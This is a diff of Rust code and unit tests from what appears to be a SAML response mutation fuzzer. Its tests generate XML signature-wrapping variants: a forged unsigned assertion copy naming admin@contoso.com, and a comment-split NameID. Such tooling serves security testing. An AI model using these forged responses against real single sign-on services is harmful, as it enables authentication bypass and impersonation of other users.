+    /// `parent` grown by one edit (up to [`MAX_EDITS`]), or with one edit redrawn.
+    pub fn extend(&mut self, parent: &Chain) -> Chain {
+        let mut edits = parent.edits.clone();
+        let new = self.mutation();
+        if edits.len() < MAX_EDITS && self.rng.bool() {
+            let at = self.rng.usize(..=edits.len());
+            edits.insert(at, new);
+        } else if !edits.is_empty() {
+            let at = self.rng.usize(..edits.len());
+            edits[at] = new;
+        } else {
+            edits.push(new);
+        }
+        order(&mut edits);
+        Chain {
+            seed: parent.seed,
+            edits,
+        }
+    }
+}
+
+/// The most edits a grown chain has.
+pub const MAX_EDITS: usize = 6;
+
+/// Puts edits that break well-formedness last, so the structural ones before them still find
+/// their elements, and re-signing after the edits it covers.
+fn order(edits: &mut [Mutation]) {
+    edits.sort_by_key(|m| match m {
+        Mutation::Redigest { .. } => 1,
+        Mutation::SelfSign | Mutation::HmacSign => 2,
+        Mutation::Doctype { .. } | Mutation::Bytes { .. } => 3,
+        Mutation::Attribute {
+            attribute: ExtraAttribute::DuplicateId,
+            ..
+        } => 3,
+        _ => 0,
+    });
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const SEED: &str = r##"<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r"><Issuer xmlns="urn:oasis:names:tc:SAML:2.0:assertion">https://sts/</Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status><Assertion xmlns="urn:oasis:names:tc:SAML:2.0:assertion" ID="_a"><Issuer>https://sts/</Issuer><Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><SignedInfo><Reference URI="#_a"><DigestValue>d</DigestValue></Reference></SignedInfo></Signature><Subject><NameID>b.simon@contoso.com</NameID></Subject></Assertion></samlp:Response>"##;
+
+    #[test]
+    fn a_forged_copy_before_the_signed_assertion_is_classic_wrapping() {
+        let chain = Chain {
+            seed: SeedSigning::Assertion,
+            edits: vec![Mutation::Copy {
+                what: Target::Assertion,
+                forged: true,
+                id: IdChange::Fresh,
+                place: Place::Before,
+                anchor: Target::Assertion,
+            }],
+        };
+        let applied = chain.apply(SEED);
+        assert_eq!(applied.took_effect, [true]);
+        assert_eq!(applied.swap.forged, ["admin@contoso.com"]);
+        let doc = Doc::parse(&applied.xml).unwrap();
+        let first = resolve(&doc, Target::Assertion).unwrap();
+        assert_eq!(first.attribute("ID"), Some("_a-fz"));
+        assert!(bytes::signature_of(first).is_none());
+        let last = resolve(&doc, Target::LastAssertion).unwrap();
+        assert_eq!(last.attribute("ID"), Some("_a"));
+        assert!(!applied.spec_invalid);
+    }
+
+    #[test]
+    fn edits_that_find_nothing_take_no_effect() {
+        let chain = Chain {
+            seed: SeedSigning::Assertion,
+            edits: vec![
+                Mutation::Remove {
+                    what: Target::ResponseSignature,
+                },
+                Mutation::Bytes {
+                    kind: ByteEdit::TrailingText,
+                },
+                Mutation::ForgeIdentity {
+                    within: Target::Assertion,
+                },
+            ],
+        };
+        let applied = chain.apply(SEED);
+        // No Response signature; after the trailing text nothing parses any more.
+        assert_eq!(applied.took_effect, [false, true, false]);
+        assert!(applied.swap.forged.is_empty());
+        assert!(applied.spec_invalid);
+    }
+
+    #[test]
+    fn a_split_name_id_names_what_a_first_text_node_reader_sees() {
+        let (xml, swap) = Mutation::SplitIdentity {
+            with: Splitter::Comment,
+        }
+        .apply(SEED)
+        .unwrap();
+        assert!(
+            xml.contains("<NameID>b.simon<!---->@contoso.com</NameID>"),
+            "{xml}"
+        );
+        assert_eq!(swap.forged, ["b.simon"]);
+        assert_eq!(swap.genuine, ["b.simon@contoso.com"]);
+    }
+
+    #[test]
+    fn invalid_means_not_well_formed_or_a_dtd() {
+        assert!(!spec_invalid(SEED));
+        assert!(!spec_invalid(&format!("\u{feff}\n {SEED}")));
+        assert!(spec_invalid(&format!("\n<?xml version=\"1.0\"?>{SEED}")));
+        assert!(spec_invalid(&format!("<!DOCTYPE r>{SEED}")));
+        assert!(spec_invalid(&format!("{SEED}{SEED}")));
+        assert!(spec_invalid(&SEED.replace("<Subject>", "<x:Subject>")));
+    }
+
+    #[test]
+    fn moving_an_element_into_itself_is_refused() {
+        let m = Mutation::Move {
+            what: Target::Assertion,
+            place: Place::LastChild,
+            anchor: Target::Subject,
+        };
+        assert!(m.apply(SEED).is_err());
+    }
+
+    #[test]
+    fn chains_are_deterministic_and_round_trip_as_yaml_data() {
+        let (mut a, mut b) = (Generator::new(7), Generator::new(7));
+        for _ in 0..200 {
+            let chain = a.chain();
+            assert_eq!(chain, b.chain());
+            assert!((1..=4).contains(&chain.edits.len()));
+            let json = serde_json::to_string(&chain).unwrap();
+            assert_eq!(serde_json::from_str::<Chain>(&json).unwrap(), chain);
+            // Every drawn chain applies without panicking.
+            let applied = chain.apply(SEED);
+            assert_eq!(applied.took_effect.len(), chain.edits.len());
+        }
+    }
+}
